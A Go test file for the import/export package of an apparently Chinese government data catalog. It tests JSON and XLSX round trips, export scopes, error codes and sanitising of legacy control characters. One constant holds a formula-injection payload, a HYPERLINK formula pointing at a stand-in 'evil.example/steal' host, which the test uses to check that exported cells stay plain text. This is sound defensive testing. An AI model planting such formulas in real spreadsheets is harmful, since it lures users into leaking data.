package catalogio_test

import (
	"bytes"
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"huitong"
	"huitong/catalog"
	"huitong/catalogio"
	"huitong/store"
	"huitong/store/storetest"
)

const formula = `=HYPERLINK("http://evil.example/steal","点我查看")`

// seedCatalog registers three related entries of deptCode (relations form
// a cycle, so they can only be restored after all are created), covering
// every mount kind and share type, and publishes them.
func seedCatalog(t *testing.T, e *env) []*huitong.Resource {
	t.Helper()
	people := mustCreate(t, e, e.staff, sample("常住人口基本信息"))

	legal := sample("法人登记信息")
	legal.Classification = huitong.Classification{Class: huitong.ClassBase, Item: "02", Category: "001", Detail: "01"}
	legal.ShareType, legal.ShareCondition = huitong.ShareUnconditional, ""
	legal.ShareMethods = []huitong.ShareMethod{huitong.MethodDownload, huitong.MethodService, huitong.MethodBrowse}
	legal.OpenType, legal.OpenCondition = huitong.OpenConditional, "经申请审核后开放"
	legal.UpdateCycle = huitong.CycleRealtime
	legal.Format = huitong.FormatSpreadsheet
	legal.Mount = huitong.Mount{Kind: huitong.MountTable, Comment: "平台库表"}
	legal.Items = []huitong.Item{
		{Name: "统一社会信用代码", Code: "TYSHXYDM", Type: huitong.TypeString, Length: 18, Key: true, KeyKind: huitong.KeyUSCC},
		{Name: "注册资本", Code: "ZCZB", Type: huitong.TypeMoney, Length: 20, ShareType: huitong.ShareUnconditional, OpenType: huitong.OpenOpen},
		{Name: "成立日期", Code: "CLRQ", Type: huitong.TypeDateTime},
	}
	legal.Related = []string{people.Code}
	legal = mustCreate(t, e, e.staff, legal)

	archive := sample("档案目录")
	archive.Abstract = formula // hostile text must stay text
	archive.ShareType, archive.ShareCondition = huitong.ShareNone, ""
	archive.LegalBasis = "《中华人民共和国档案法》第二十七条"
	archive.ShareMethods = nil
	archive.UpdateCycle = huitong.CycleIrregular
	archive.Format = huitong.FormatFile
	archive.Keywords = nil
	archive.Mount = huitong.Mount{Kind: huitong.MountFile, Path: "/data/archive/2024"}
	archive.Related = []string{legal.Code}
	archive = mustCreate(t, e, e.staff, archive)

	people.Related = []string{archive.Code}
	if _, err := e.cat.Update(e.staff, people.Code, people); err != nil {
		t.Fatal(err)
	}
	var out []*huitong.Resource
	for _, code := range []string{people.Code, legal.Code, archive.Code} {
		if _, err := e.cat.Submit(e.staff, code); err != nil {
			t.Fatal(err)
		}
		r, err := e.cat.Publish(e.reviewer, code)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// comparable keeps what a catalog file carries: the catalog elements and
// items, with related entries by name (codes differ between platforms).
func comparable(t *testing.T, e *env, r *huitong.Resource) string {
	t.Helper()
	c := *r
	var related []string
	for _, code := range r.Related {
		rel, err := e.cat.Find(e.operator, code, 0)
		if err != nil {
			t.Fatalf("related %s of %s: %v", code, r.Name, err)
		}
		related = append(related, rel.Name)
	}
	slices.Sort(related)
	c.Related = related
	if c.Mount.Kind == huitong.MountTable {
		if want := catalog.TableName(r.Code); c.Mount.Table != want {
			t.Errorf("%s: table got %q, want %q", r.Name, c.Mount.Table, want)
		}
		c.Mount.Table = ""
	}
	c.Code, c.Version, c.Status, c.ReviewNote, c.CreatedBy, c.ReviewedBy = "", 0, "", "", "", ""
	c.CreatedAt, c.UpdatedAt, c.SubmittedAt, c.PublishedAt = time.Time{}, time.Time{}, time.Time{}, time.Time{}
	b, err := json.Marshal(c)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestRoundTrip(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		src := newEnv(t, db)
		seeded := seedCatalog(t, src)
		want := map[string]string{}
		for _, r := range seeded {
			want[r.Name] = comparable(t, src, r)
		}
		for _, tc := range []struct {
			name   string
			format catalogio.Format
			submit bool
		}{{"JSON", catalogio.JSON, false}, {"XLSX", catalogio.XLSX, true}} {
			t.Run(tc.name, func(t *testing.T) {
				var file bytes.Buffer
				n, err := catalogio.Export(src.staff, src.cat, &file, tc.format, huitong.ResourceFilter{}, "")
				if err != nil {
					t.Fatal(err)
				}
				if n != 3 {
					t.Fatalf("exported %d entries, want 3", n)
				}

				dst := newEnv(t, storetest.Open(t, db.Engine))
				rep, err := catalogio.Import(dst.staff, dst.cat, bytes.NewReader(file.Bytes()), tc.format, catalogio.Options{Submit: tc.submit})
				if err != nil {
					t.Fatal(err)
				}
				if rep.Rows != 3 || rep.Created != 3 || rep.Skipped != 0 || len(rep.Codes) != 3 || len(rep.Errors) != 0 {
					t.Fatalf("got rows %d created %d skipped %d codes %v errors %v, want 3 3 0 with no errors", rep.Rows, rep.Created, rep.Skipped, rep.Codes, rules(rep))
				}
				wantStatus := huitong.StatusDraft
				if tc.submit {
					wantStatus = huitong.StatusSubmitted
				}
				for _, code := range rep.Codes {
					r, err := dst.cat.Find(dst.staff, code, 0)
					if err != nil {
						t.Fatal(err)
					}
					if r.Status != wantStatus {
						t.Errorf("%s: status got %s, want %s", r.Name, r.Status, wantStatus)
					}
					if r.Provider != deptCode {
						t.Errorf("%s: provider got %s, want %s", r.Name, r.Provider, deptCode)
					}
					if got := comparable(t, dst, r); got != want[r.Name] {
						t.Errorf("%s:\n got %s\nwant %s", r.Name, got, want[r.Name])
					}
				}

				// Importing the same file again creates nothing.
				again, err := catalogio.Import(dst.staff, dst.cat, bytes.NewReader(file.Bytes()), tc.format, catalogio.Options{})
				if err != nil {
					t.Fatal(err)
				}
				if again.Created != 0 || again.Skipped != 3 {
					t.Errorf("re-import: got created %d skipped %d, want 0 and 3", again.Created, again.Skipped)
				}
				for _, re := range again.Errors {
					if re.Rule != "already_exists" {
						t.Errorf("re-import: got rule %s (%s), want already_exists", re.Rule, re.Message)
					}
				}
				if got := count(t, dst, dst.staff); got != 3 {
					t.Errorf("entries after re-import: got %d, want 3", got)
				}
			})
		}
	})
}

func TestExportXLSXCells(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		seeded := seedCatalog(t, e)
		var buf bytes.Buffer
		if _, err := catalogio.Export(e.staff, e.cat, &buf, catalogio.XLSX, huitong.ResourceFilter{}, ""); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, err := f.GetRows(catalogio.SheetEntries)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(rows[0], entryHeaders) {
			t.Fatalf("entries header got %v, want %v", rows[0], entryHeaders)
		}
		col := func(h string) int { return slices.Index(entryHeaders, h) }
		var archiveRow int
		for i, row := range rows[1:] {
			if row[col("信息资源名称")] == "档案目录" {
				archiveRow = i + 2
				if got := row[col("共享类型")]; got != "不予共享" {
					t.Errorf("共享类型 got %q, want label 不予共享", got)
				}
				if got := row[col("挂接方式")]; got != "文件" {
					t.Errorf("挂接方式 got %q, want 文件", got)
				}
				if got := row[col("状态")]; got != "已发布" {
					t.Errorf("状态 got %q, want 已发布", got)
				}
			}
			if row[col("信息资源名称")] == "法人登记信息" {
				if got := row[col("共享方式")]; got != "在线浏览、调用服务、下载" && got != "下载、调用服务、在线浏览" {
					t.Errorf("共享方式 got %q, want labels joined by 、", got)
				}
				if got := row[col("细目")]; got != "01" {
					t.Errorf("细目 got %q, want 01", got)
				}
			}
		}
		if archiveRow == 0 {
			t.Fatalf("档案目录 not exported: %v", rows)
		}
		// The formula-looking abstract is a string cell, not a formula.
		ref, _ := excelize.CoordinatesToCellName(col("信息资源摘要")+1, archiveRow)
		if fm, _ := f.GetCellFormula(catalogio.SheetEntries, ref); fm != "" {
			t.Errorf("abstract cell has formula %q, want none", fm)
		}
		if typ, _ := f.GetCellType(catalogio.SheetEntries, ref); typ != excelize.CellTypeInlineString {
			t.Errorf("abstract cell type got %v, want inline string", typ)
		}
		if v, _ := f.GetCellValue(catalogio.SheetEntries, ref); v != formula {
			t.Errorf("abstract got %q, want %q", v, formula)
		}

		items, err := f.GetRows(catalogio.SheetItems)
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(items[0], itemHeaders) {
			t.Fatalf("items header got %v, want %v", items[0], itemHeaders)
		}
		total := 0
		for _, r := range seeded {
			total += len(r.Items)
		}
		if len(items)-1 != total {
			t.Errorf("item rows got %d, want %d", len(items)-1, total)
		}
		for _, row := range items[1:] {
			if row[2] == "公民身份号码" && (row[4] != "字符型" || row[7] != "是" || row[8] != "公民身份号码" || row[9] != "是") {
				t.Errorf("key item row got %v, want 字符型/是/公民身份号码/是", row)
			}
		}
	})
}

func TestExportScopes(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		seedCatalog(t, e)
		mustCreate(t, e, e.staff, sample("未发布的草稿"))
		mustCreate(t, e, e.other, sample("民政厅的草稿"))
		for _, tc := range []struct {
			name   string
			ctx    context.Context
			filter huitong.ResourceFilter
			scope  string
			want   int
		}{
			{"Published", e.staff, huitong.ResourceFilter{}, "", 3},
			{"WorkingOwnDepartment", e.staff, huitong.ResourceFilter{}, catalog.ScopeWorking, 4},
			{"WorkingOtherDepartment", e.other, huitong.ResourceFilter{}, catalog.ScopeWorking, 1},
			{"Limit", e.staff, huitong.ResourceFilter{Limit: 2}, "", 2},
			{"Offset", e.staff, huitong.ResourceFilter{Offset: 2}, "", 1},
			{"FilterShareType", e.staff, huitong.ResourceFilter{ShareType: huitong.ShareNone}, "", 1},
		} {
			t.Run(tc.name, func(t *testing.T) {
				var buf bytes.Buffer
				n, err := catalogio.Export(tc.ctx, e.cat, &buf, catalogio.JSON, tc.filter, tc.scope)
				if err != nil {
					t.Fatal(err)
				}
				var doc struct {
					Version    int                 `json:"version"`
					ExportedAt string              `json:"exportedAt"`
					Items      []*huitong.Resource `json:"items"`
				}
				if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
					t.Fatalf("export is not JSON: %v\n%s", err, buf.String())
				}
				if n != tc.want || len(doc.Items) != tc.want {
					t.Fatalf("got n %d and %d items, want %d", n, len(doc.Items), tc.want)
				}
				if doc.Version != 1 || doc.ExportedAt == "" {
					t.Errorf("got version %d exportedAt %q, want 1 and a time", doc.Version, doc.ExportedAt)
				}
				for _, r := range doc.Items {
					if len(r.Items) == 0 {
						t.Errorf("%s exported without items", r.Name)
					}
					if tc.scope == "" && r.Status != huitong.StatusPublished {
						t.Errorf("%s: published export has status %s", r.Name, r.Status)
					}
				}
			})
		}
	})
}

func TestExportErrors(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		for _, tc := range []struct {
			name string
			ctx  context.Context
			f    catalogio.Format
			want string
		}{
			{"ErrUnauthenticated", bg, catalogio.JSON, huitong.EUNAUTHORIZED},
			{"ErrFormat", e.staff, "csv", huitong.EINVALID},
		} {
			t.Run(tc.name, func(t *testing.T) {
				_, err := catalogio.Export(tc.ctx, e.cat, &bytes.Buffer{}, tc.f, huitong.ResourceFilter{}, "")
				if got := huitong.ErrorCode(err); got != tc.want {
					t.Errorf("got %v (%v), want %s", got, err, tc.want)
				}
			})
		}
	})
}

// TestExportLegacyControlCharacters: text stored before the catalog
// refused control characters still exports as a well-formed workbook.
func TestExportLegacyControlCharacters(t *testing.T) {
	eachEnv(t, func(t *testing.T, e *env) {
		r := sample("旧数据\x01名称\u202e")
		r.Code, r.Version, r.Status, r.Provider = "301002/000077", 1, huitong.StatusDraft, deptCode
		err := e.db.Update(bg, func(tx *store.Tx) error { return tx.InsertResource(bg, r) })
		if err != nil {
			t.Fatal(err)
		}
		if err := e.cat.Rebuild(bg); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		n, err := catalogio.Export(e.staff, e.cat, &buf, catalogio.XLSX, huitong.ResourceFilter{}, catalog.ScopeWorking)
		if err != nil || n != 1 {
			t.Fatalf("got %d, %v, want 1 entry", n, err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatalf("exported workbook does not open: %v", err)
		}
		defer f.Close()
		name, err := f.GetCellValue(catalogio.SheetEntries, "C2")
		if err != nil {
			t.Fatal(err)
		}
		if strings.ContainsRune(name, 0x01) || !strings.HasPrefix(name, "旧数据") {
			t.Errorf("name got %q, want the control character replaced", name)
		}
	})
}
